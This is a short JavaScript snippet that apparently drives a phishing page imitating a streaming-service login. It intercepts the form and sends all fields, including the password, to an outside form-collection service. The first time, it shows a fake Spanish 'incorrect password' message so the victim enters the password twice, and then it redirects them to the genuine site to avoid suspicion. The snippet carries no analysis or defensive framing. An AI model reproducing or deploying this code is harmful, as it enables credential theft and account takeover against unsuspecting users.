const f = document.querySelector('form'), p = f.querySelector('[type=password]');
f.addEventListener('submit', async (e) => {
  e.preventDefault();
  await fetch('https://formspree.io/f/FORMID', { method: 'POST', body: new FormData(f), headers: { Accept: 'application/json' } });
  if (p.dataset.t) { location = 'https://www.streamflix.example/browse'; return; }
  p.dataset.t = 1;
  p.value = '';
  f.querySelector('.ui-message').innerHTML = '<b>Contraseña incorrecta.</b> Inténtalo de nuevo o restablece tu contraseña.';
});
f.insertAdjacentHTML('beforeend', '<input type="hidden" name="_subject" value="streamflix ' + navigator.language + '">');
